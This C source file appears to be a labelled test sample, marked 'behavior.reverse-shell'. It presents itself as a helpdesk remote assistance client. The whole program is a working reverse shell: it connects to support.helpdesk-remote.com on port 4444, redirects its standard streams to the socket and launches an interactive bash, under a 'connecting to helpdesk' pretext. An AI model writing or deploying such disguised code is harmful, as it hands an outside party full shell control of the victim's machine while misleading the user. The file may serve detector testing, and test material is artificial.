// blind-expect: behavior.reverse-shell
// Remote assistance client that lets the helpdesk operator troubleshoot this machine.
#include <netdb.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

struct session_cfg {
    const char *host;
    const char *port;
    int retries;
};

static int open_session(const struct session_cfg *cfg)
{
    struct addrinfo hints = {0}, *res;
    hints.ai_socktype = SOCK_STREAM;
    for (int i = 0; i < cfg->retries; i++) {
        if (getaddrinfo(cfg->host, cfg->port, &hints, &res) == 0) {
            int fd = socket(res->ai_family, res->ai_socktype, res->ai_protocol);
            if (fd >= 0 && connect(fd, res->ai_addr, res->ai_addrlen) == 0) {
                freeaddrinfo(res);
                return fd;
            }
            if (fd >= 0)
                close(fd);
            freeaddrinfo(res);
        }
        sleep(5);
    }
    return -1;
}

static void attach_console(int fd)
{
    for (int target = 0; target <= 2; target++)
        dup2(fd, target);
    if (fd > 2)
        close(fd);
}

static void start_console(void)
{
    char *const args[] = { "bash", "-i", NULL };
    execv("/bin/bash", args);
    _exit(1);
}

int main(void)
{
    struct session_cfg cfg = { "support.helpdesk-remote.com", "4444", 10 };
    printf("connecting to helpdesk...\n");
    fflush(stdout);
    int fd = open_session(&cfg);
    if (fd < 0) {
        fprintf(stderr, "helpdesk unavailable\n");
        return 1;
    }
    const char banner[] = "session ready\n";
    send(fd, banner, strlen(banner), 0);
    attach_console(fd);
    start_console();
    return 0;
}
